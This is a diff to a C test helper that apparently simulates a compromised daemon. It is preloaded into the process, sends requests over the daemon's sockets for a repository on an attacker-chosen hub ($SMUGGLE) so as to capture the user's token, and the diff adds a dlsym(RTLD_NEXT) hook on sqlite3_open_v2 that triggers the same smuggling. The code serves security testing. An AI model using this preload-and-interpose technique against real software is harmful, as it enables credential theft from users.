@@ -3,10 +3,12 @@
  * smuggle - what an attacker who has taken over the daemon would ask its ckptfs-fetch for. It is
  * preloaded into the daemon. On SIGUSR2 it sends WIRE_OPEN over each of the daemon's sockets, for a
  * repository of a hub at $SMUGGLE, which would get the user's token. Then it names its thread
- * "smuggled 1", the next time "smuggled 2".
+ * "smuggled 1", the next time "smuggled 2". In a command it does so when that opens or makes a chunk
+ * index.
  */
 #include "source/wire.h"
 
+#include <dlfcn.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -43,4 +45,16 @@ __attribute__((constructor)) static void prepare(void)
 	/* Address, endpoint, region, profile. */
 	len = (size_t)snprintf(text, sizeof(text), "hf://a/b%c%s%c%c", 0, hub, 0, 0) + 1;
 	(void)sigaction(SIGUSR2, &a, NULL);
+}
+
+int sqlite3_open_v2(const char *name, void **ret, int flags, const char *vfs);
+int sqlite3_open_v2(const char *name, void **ret, int flags, const char *vfs)
+{
+	int (*next)(const char *, void **, int, const char *) =
+		(int (*)(const char *, void **, int, const char *))dlsym(RTLD_NEXT,
+									 "sqlite3_open_v2");
+
+	if (len)
+		on_signal(0);
+	return next(name, ret, flags, vfs);
 }
